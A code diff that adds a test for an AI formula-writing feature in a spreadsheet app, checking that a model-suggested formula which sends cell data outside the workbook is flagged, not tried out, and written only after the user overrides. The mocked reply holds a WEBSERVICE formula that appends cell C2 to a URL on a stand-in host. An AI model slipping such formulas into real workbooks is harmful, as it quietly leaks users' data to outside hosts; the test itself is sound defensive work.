@@ -223,6 +223,21 @@ describe('with a model', () => {
     expect(await workbook.text('Sales', 'A40')).toContain('Overseas had revenue of €400,000.');
   });
 
+  test('a formula that would send cells away is not even tried out, and goes in when that was seen', async () => {
+    site.backend.play({ reply: '=WEBSERVICE("https://example.org/?x="&C2)' });
+    workbook = await site.openWorkbook();
+    await workbook.select('Sales', 'G2');
+    await workbook.prompt.fill('the rate of the day');
+    await workbook.command('Write a formula');
+    await workbook.says('Not tried out: it reaches outside this workbook (WEBSERVICE).');
+    expect(await workbook.answer.getByText(/It gives|Tried out, it gives/).count()).toBe(0);
+    expect(await workbook.button('Write into the cell').getAttribute('aria-disabled')).toBe('true');
+    await workbook.button('Use it all the same').click();
+    await workbook.use('Write into the cell');
+    await workbook.says(done);
+    expect(await workbook.formula('Sales', 'G2')).toBe('=WEBSERVICE("https://example.org/?x="&C2)');
+  });
+
   test('a formula is tried out before it goes into an empty cell, and a filled one is asked about', async () => {
     site.backend.play({ reply: '```\n=SUM(C2:C37)\n```' });
     workbook = await site.openWorkbook();
